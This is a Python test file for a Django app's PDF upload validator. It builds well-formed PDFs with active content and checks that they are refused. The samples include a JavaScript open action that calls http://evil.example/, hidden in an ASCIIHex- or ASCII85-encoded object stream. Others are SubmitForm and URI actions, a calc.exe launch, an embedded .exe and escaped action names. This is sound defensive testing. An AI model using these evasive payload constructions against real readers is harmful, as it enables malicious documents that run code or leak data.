"""Issue 13 §3: PDFs are judged on their decoded object graph, not on their raw bytes.

The malicious files are built here as valid PDFs (pypdf reads them and finds the action), with
the action packed in an object stream encoded with ASCIIHex or ASCII85, or written plainly for
the other kinds of active content.
"""

from __future__ import annotations

import base64
import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfReader, PdfWriter

from fileformats.pdf_safety import Verdict, inspect_pdf
from workflows.documents import inspect_upload

ACTIVE = "contenu actif"
JS_ACTION = b"<< /S /JavaScript /JS (app.launchURL\\('http://evil.example/'\\)) >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"


def _pdf(objects: dict[int, bytes], packed: dict[int, bytes] | None = None, encoding: str = "") -> bytes:
    """A PDF 1.5 with a cross-reference stream; `packed` objects go into one object stream."""
    packed = packed or {}
    body = dict(objects)
    stream_number = max([*objects, *packed]) + 1
    if packed:
        header = b" ".join(b"%d %d" % (n, 0) for n in packed)  # offsets fixed below
        chunks, offsets, position = [], [], 0
        for obj in packed.values():
            offsets.append(position)
            chunks.append(obj + b"\n")
            position += len(obj) + 1
        header = b" ".join(b"%d %d" % (n, off) for n, off in zip(packed, offsets, strict=True)) + b"\n"
        raw = header + b"".join(chunks)
        if encoding == "ASCIIHexDecode":
            data = raw.hex().encode() + b">"
        elif encoding == "ASCII85Decode":
            data = base64.a85encode(raw) + b"~>"
        else:
            raise AssertionError(encoding)
        body[stream_number] = (
            b"<< /Type /ObjStm /N %d /First %d /Filter /%s /Length %d >>\nstream\n%s\nendstream"
            % (len(packed), len(header), encoding.encode(), len(data), data)
        )
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    where: dict[int, int] = {}
    for number in sorted(body):
        where[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body[number])
    xref_number = max([*body, *packed]) + 1
    where[xref_number] = len(out)
    rows = [b"\x00" + (0).to_bytes(4, "big") + b"\xff\xff"]
    for number in range(1, xref_number + 1):
        if number in packed:
            rows.append(
                b"\x02" + stream_number.to_bytes(4, "big") + list(packed).index(number).to_bytes(2, "big")
            )
        else:
            rows.append(b"\x01" + where[number].to_bytes(4, "big") + b"\x00\x00")
    data = b"".join(rows)
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n"
        % (
            xref_number,
            xref_number + 1,
            len(data),
            data,
        )
    )
    out += b"startxref\n%d\n%%%%EOF\n" % where[xref_number]
    return bytes(out)


def _document(catalog_extra: bytes = b"", page: bytes = PAGE, extra: dict[int, bytes] | None = None) -> bytes:
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: page,
        **(extra or {}),
    }
    return _pdf(objects)


def upload(content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile("preuve.pdf", content, content_type="application/pdf")


@pytest.mark.parametrize("encoding", ["ASCIIHexDecode", "ASCII85Decode"])
def test_javascript_open_action_inside_an_encoded_object_stream_is_refused(encoding):
    content = _pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: PAGE,
        },
        packed={4: JS_ACTION},
        encoding=encoding,
    )
    # The file is a real PDF whose opening runs JavaScript: a reader finds the action.
    action = PdfReader(io.BytesIO(content)).trailer["/Root"]["/OpenAction"].get_object()
    assert action["/S"] == "/JavaScript"
    assert b"JavaScript" not in content
    with pytest.raises(ValidationError, match=ACTIVE):
        inspect_upload(upload(content))


CASES = {
    "SubmitForm open action": _document(b"/OpenAction << /S /SubmitForm /F (http://evil.example/) >>"),
    "URI open action": _document(
        b"/OpenAction 4 0 R", extra={4: b"<< /S /URI /URI (http://evil.example/) >>"}
    ),
    "ImportData open action": _document(b"/OpenAction << /S /ImportData /F (x.fdf) >>"),
    "Launch open action": _document(b"/OpenAction << /S /Launch /F (calc.exe) >>"),
    "page additional actions": _document(
        page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> >>"
    ),
    "embedded files": _document(
        b"/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
        extra={4: b"<< /F (a.exe) /EF << /F 5 0 R >> >>", 5: b"<< /Length 2 >>\nstream\nMZ\nendstream"},
    ),
    "rich media annotation": _document(
        page=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
        extra={4: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"},
    ),
    "XFA form": _document(
        b"/AcroForm << /Fields [] /XFA 4 0 R >>", extra={4: b"<< /Length 0 >>\nstream\n\nendstream"}
    ),
    "escaped name": _document(b"/OpenAction << /S /J#61vaScript /J#53 (1) >>"),
}


@pytest.mark.parametrize("name", list(CASES))
def test_active_content_is_refused_with_the_same_message(name):
    content = CASES[name]
    PdfReader(io.BytesIO(content)).trailer["/Root"]  # a well-formed PDF
    with pytest.raises(ValidationError, match=ACTIVE) as caught:
        inspect_upload(upload(content))
    assert caught.value.code == "pdf_active"


def test_plain_documents_are_accepted():
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.add_metadata({"/Title": "Avis du CPP"})
    buffer = io.BytesIO()
    writer.write(buffer)
    assert inspect_pdf(buffer.getvalue()) is Verdict.CLEAN
    assert inspect_upload(upload(buffer.getvalue())).content_type == "application/pdf"
    assert inspect_pdf(_document(b"/PageMode /UseNone")) is Verdict.CLEAN


def test_a_file_that_cannot_be_read_is_refused():
    with pytest.raises(ValidationError, match="illisible") as caught:
        inspect_upload(upload(b"%PDF-1.7\n" + b"\x00garbage" * 50))
    assert caught.value.code == "pdf_unreadable"
